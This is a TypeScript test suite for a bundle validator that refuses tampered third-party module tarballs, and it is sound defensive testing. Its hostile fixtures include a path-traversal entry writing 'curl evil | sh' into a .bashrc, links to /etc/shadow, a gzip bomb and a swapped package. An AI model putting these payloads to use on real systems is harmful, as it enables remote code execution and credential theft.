// The one validator on bundles that carry third-party modules: the builder's real output
// passes; hand-changed copies of it (hostile input only) are refused, each with its code, a
// message naming the tarball and a hint.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { hostileTarball, zerosTarball } from '../../test/support/hostile-tarball';
import { builtBundle, moduleBundle } from '../../test/support/built-bundle';
import { bundleFileMap } from './bundle.files';
import { bundleContentHash } from './bundle.hash';
import { moduleIntegrity, packModuleTarball } from './module.tarball';
import { checkBundle, readBundleFiles } from './bundle.validate';
import type { Bundle } from './bundle.types';

const HELPER = 'modules/fixture-helper-0.2.1.tgz';
const NODE = 'modules/node-red-contrib-databox-fixture-1.4.2.tgz';
const helperJson = '{"name":"fixture-helper","version":"0.2.1"}';

/** The bundle with one tarball's bytes replaced and package.json's integrity for it updated: only the tarball's insides are wrong. */
function withTarball(bundle: Bundle, file: string, data: Buffer): Bundle {
  const modules = (bundle.packageJson.databox?.modules ?? []).map((m) => (m.file === file ? { ...m, integrity: moduleIntegrity(data) } : m));
  return {
    ...bundle,
    packageJson: { ...bundle.packageJson, databox: { modules } },
    modules: (bundle.modules ?? []).map((m) => (m.file === file ? { ...m, data } : m)),
  };
}

function refusedFiles(files: Map<string, Buffer>, code: string, message: RegExp, status = 400): void {
  assert.throws(() => readBundleFiles(files), (error: unknown) => {
    assert.ok(error instanceof Error && 'code' in error && 'hint' in error && 'status' in error, `a DataboxError, not ${String(error)}`);
    assert.equal(error.code, code, error.message);
    assert.match(error.message, message);
    assert.equal(error.status, status);
    assert.ok(typeof error.hint === 'string' && error.hint.length > 20);
    return true;
  });
}

const refused = (bundle: Bundle, code: string, message: RegExp, status = 400) => refusedFiles(bundleFileMap(bundle), code, message, status);

test('the builder\'s module bundle passes unchanged: both tarballs listed with name, version and sha512, and hashed', async () => {
  const bundle = await moduleBundle();
  assert.deepEqual(checkBundle(bundle), bundle);
  assert.deepEqual(bundle.modules?.map((m) => m.file), [HELPER, NODE]);
  assert.deepEqual(bundle.packageJson.databox?.modules.map((m) => `${m.name}@${m.version} ${m.file} ${m.integrity.slice(0, 7)}`), [
    `fixture-helper@0.2.1 ${HELPER} sha512-`, `node-red-contrib-databox-fixture@1.4.2 ${NODE} sha512-`,
  ]);
  assert.match(bundle.dockerfile, /^COPY node_modules\/ \/app\/node_modules\/$/m);
  const other = packModuleTarball([{ path: 'package.json', data: Buffer.from(helperJson), mode: 0o644 }, { path: 'index.js', data: Buffer.from('// changed\n'), mode: 0o644 }]);
  assert.notEqual(bundleContentHash(withTarball(bundle, HELPER, other)), bundleContentHash(bundle), 'the content hash (and so the signature) covers the modules');
  assert.deepEqual(builtBundle().modules, undefined, 'a bundle without modules has none, and no databox field');
  assert.equal(builtBundle().packageJson.databox, undefined);
});

test('refused: a tarball not listed, a listed one missing, a dependency not carried', async () => {
  const bundle = await moduleBundle();
  const files = bundleFileMap(bundle);
  refusedFiles(new Map([...files, ['modules/extra-1.0.0.tgz', files.get(HELPER) ?? Buffer.alloc(0)]]), 'bundle-module-unlisted', /modules\/extra-1\.0\.0\.tgz is in the bundle but package\.json does not list it/);
  const missing = new Map(files);
  missing.delete(HELPER);
  refusedFiles(missing, 'bundle-module-missing', /package\.json lists modules\/fixture-helper-0\.2\.1\.tgz, which is not in the bundle/);
  const unlisted = { ...bundle, packageJson: { ...bundle.packageJson, databox: { modules: (bundle.packageJson.databox?.modules ?? []).filter((m) => m.file === HELPER) } }, modules: bundle.modules?.filter((m) => m.file === HELPER) };
  refused(unlisted, 'bundle-module-missing', /depends on node-red-contrib-databox-fixture 1\.4\.2, but the bundle carries no modules\/node-red-contrib-databox-fixture-1\.4\.2\.tgz/);
  const wrongVersion = { ...bundle, packageJson: { ...bundle.packageJson, dependencies: { 'node-red-contrib-databox-fixture': '^1.0.0' } } };
  refused(wrongVersion, 'bundle-module-missing', /depends on node-red-contrib-databox-fixture \^1\.0\.0/);
});

test('refused: a tarball whose sha512 is not the listed one (swapped, or changed by one byte)', async () => {
  const bundle = await moduleBundle();
  const files = bundleFileMap(bundle);
  const changed = Buffer.from(files.get(NODE) ?? Buffer.alloc(0));
  changed[changed.length - 1] = (changed[changed.length - 1] ?? 0) ^ 1;
  refusedFiles(new Map([...files, [NODE, changed]]), 'bundle-module-integrity', /node-red-contrib-databox-fixture-1\.4\.2\.tgz does not match its integrity in package\.json/);
  refusedFiles(new Map([...files, [NODE, files.get(HELPER) ?? Buffer.alloc(0)]]), 'bundle-module-integrity', /does not match its integrity/);
});

test('refused: names that leave modules/ or are not derived from the listing', async () => {
  const bundle = await moduleBundle();
  const files = bundleFileMap(bundle);
  refusedFiles(new Map([...files, ['modules/../x.tgz', Buffer.from('x')]]), 'bundle-entry-traversal', /"modules\/\.\.\/x\.tgz" climbs out of the bundle/);
  refusedFiles(new Map([...files, ['modules/a/b.tgz', Buffer.from('x')]]), 'bundle-entry-unknown', /not a bundle file/);
  refusedFiles(new Map([...files, ['modules/run.sh', Buffer.from('x')]]), 'bundle-entry-unknown', /not a bundle file/);
  const listing = bundle.packageJson.databox?.modules ?? [];
  const relist = (modules: unknown) => ({ ...bundle, packageJson: { ...bundle.packageJson, databox: { modules } } }) as Bundle;
  refused(relist(listing.map((m) => (m.file === HELPER ? { ...m, file: 'modules/../../etc/x.tgz' } : m))), 'bundle-package-invalid', /"file" modules\/\.\.\/\.\.\/etc\/x\.tgz, not modules\/fixture-helper-0\.2\.1\.tgz/);
  refused(relist(listing.map((m) => (m.file === HELPER ? { ...m, name: '../../etc' } : m))), 'bundle-package-invalid', /entry 0 that has no npm package "name"/);
  refused(relist(listing.map((m) => (m.file === HELPER ? { ...m, version: '1.0.0/../..' } : m))), 'bundle-package-invalid', /no semantic "version"/);
  refused(relist(listing.map((m) => ({ ...m, integrity: 'md5-abc' }))), 'bundle-package-invalid', /no "integrity" of the form sha512/);
  refused(relist([...listing, listing[0]]), 'bundle-package-invalid', /lists the module "fixture-helper" twice/);
  refused(relist('all of them'), 'bundle-package-invalid', /"databox" field without a "modules" list/);
});

test('refused: a link, a ".." or a device inside a module tarball (listed with its right sha512)', async () => {
  const bundle = await moduleBundle();
  const pkg = { header: { name: 'package/package.json' }, content: helperJson };
  const cases: [string, Buffer, string, RegExp][] = [
    ['a symlink', await hostileTarball([pkg, { header: { name: 'package/index.js', type: 'symlink', linkname: '/etc/shadow' } }]), 'bundle-entry-type', /fixture-helper-0\.2\.1\.tgz: entry "package\/index\.js" is a symlink/],
    ['a hard link', await hostileTarball([pkg, { header: { name: 'package/index.js', type: 'link', linkname: '/etc/shadow' } }]), 'bundle-entry-type', /is a link/],
    ['a ".."', await hostileTarball([pkg, { header: { name: 'package/../../../../home/databox/.bashrc' }, content: 'curl evil | sh' }]), 'bundle-entry-traversal', /climbs out of the package with "\.\."/],
    ['a block device', await hostileTarball([pkg, { header: { name: 'package/disk', type: 'block-device', devmajor: 8, devminor: 0 } }]), 'bundle-entry-type', /block-device/],
    ['another package', packModuleTarball([{ path: 'package.json', data: Buffer.from('{"name":"evil","version":"0.2.1"}'), mode: 0o644 }]), 'bundle-module-invalid', /holds the package evil 0\.2\.1, but package\.json lists it as fixture-helper 0\.2\.1/],
  ];
  for (const [what, tarball, code, message] of cases) {
    assert.doesNotThrow(() => readBundleFiles(bundleFileMap(bundle)), what);
    refused(withTarball(bundle, HELPER, tarball), code, message);
  }
});

test('refused: a module tarball that is a gzip bomb (413), and more tarballs than the limit', async () => {
  const bundle = await moduleBundle();
  const bomb = await zerosTarball('package/zeros', 256, [{ name: 'package/package.json', data: Buffer.from(helperJson) }]);
  refused(withTarball(bundle, HELPER, bomb), 'bundle-too-large', /fixture-helper-0\.2\.1\.tgz unpacks to more than the \d+ bytes left of the limit/, 413);
  assert.throws(() => checkBundle(bundle, { maxModules: 1 }), { code: 'bundle-too-large', message: /2 module tarballs, more than the limit of 1/ });
  assert.throws(() => checkBundle(bundle, { maxModuleEntries: 3 }), { code: 'bundle-too-large', message: /more entries than the limit/ });
});

test('the Dockerfile stays derived: with modules it must have the node_modules COPY, without them it must not', async () => {
  const bundle = await moduleBundle();
  const without = bundle.dockerfile.split('\n').filter((line) => !line.includes('node_modules')).join('\n');
  refused({ ...bundle, dockerfile: without }, 'bundle-invalid', /the Dockerfile is not the one `databox build` writes/);
  const plain = builtBundle();
  refused({ ...plain, dockerfile: `${plain.dockerfile}COPY node_modules/ /app/node_modules/\n` }, 'bundle-invalid', /the Dockerfile is not the one/);
});
